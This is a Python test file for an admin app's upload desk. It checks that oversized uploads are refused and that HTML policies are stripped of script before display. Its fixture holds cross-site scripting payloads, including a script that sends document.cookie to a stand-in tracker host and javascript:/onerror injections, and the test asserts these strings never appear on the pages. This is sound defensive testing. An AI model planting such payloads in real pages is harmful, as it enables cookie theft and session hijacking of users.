"""What must not be handed in, or must not work when it is: too much, and script in a policy."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from sqlalchemy import select

from admin.clock import utc_now
from admin.jobs import run_due
from admin.principal import SYSTEM, Role, acting_as
from admin.records.job import Upload
from admin.records.policy import Policy
from admin.setup import open_sessions
from admin.uploads import receive
from tests.admin.conftest import csrf_of
from tests.admin.desk.samples import LINES

NOW = datetime(2026, 11, 24, 2, tzinfo=UTC)
HOSTILE = f"""<!doctype html><html><head><meta charset="utf-8"><title>{LINES[0]}</title>
<style>body {{ background: url(https://tracker.test/x.png) }}</style>
<script>fetch("https://tracker.test/" + document.cookie)</script></head>
<body><h1>{LINES[0]}</h1><p onclick="steal()">{LINES[1]}</p><p>{LINES[2]}</p>
<p>第三条 &lt;img src=x onerror=alert(1)&gt; 由区科技局负责解释。</p>
<iframe src="javascript:alert(1)"></iframe></body></html>"""


def test_300_megabytes_are_refused_by_their_announced_size(login: Any, session: Any) -> None:
    """Before a byte of them is read; the page says how much is allowed."""
    client = login(Role.OFFICE)
    token = csrf_of(client.get("/desk/").get_data(as_text=True))
    answer = client.post(
        "/desk/upload",
        data=b"",
        headers={"X-CSRFToken": token},
        environ_overrides={"CONTENT_LENGTH": str(300 * 2**20)},
        content_type="multipart/form-data; boundary=x",
    )
    assert answer.status_code == 413
    page = answer.get_data(as_text=True)
    assert "文件太大" in page
    assert "200 MB" in page
    assert session.scalars(select(Upload)).first() is None


def test_script_and_style_of_a_policy_reach_no_page(
    login: Any, session: Any, settings: Any
) -> None:
    """Read, shown, told: its words stay words, and nothing of its program is kept."""
    receive(session, [("措施.html", HOSTILE.encode)], SYSTEM, NOW)
    session.flush()
    sessions = open_sessions(settings)
    with acting_as(SYSTEM):
        run_due(sessions, settings, utc_now(), kinds=["read"])
    sessions.kw["bind"].dispose()
    policy = session.scalars(select(Policy)).one()
    assert policy.measures
    client = login(Role.ADMIN)
    pages = [f"/policy/show/{policy.id}", f"/desk/policy/{policy.id}"]
    pages += [f"/desk/measure/{measure.id}?whole=1" for measure in policy.measures]
    for path in pages:
        page = client.get(path).get_data(as_text=True)
        for bad in ("tracker.test", "steal()", "javascript:alert", "<img src=x", "<iframe"):
            assert bad not in page, (path, bad)
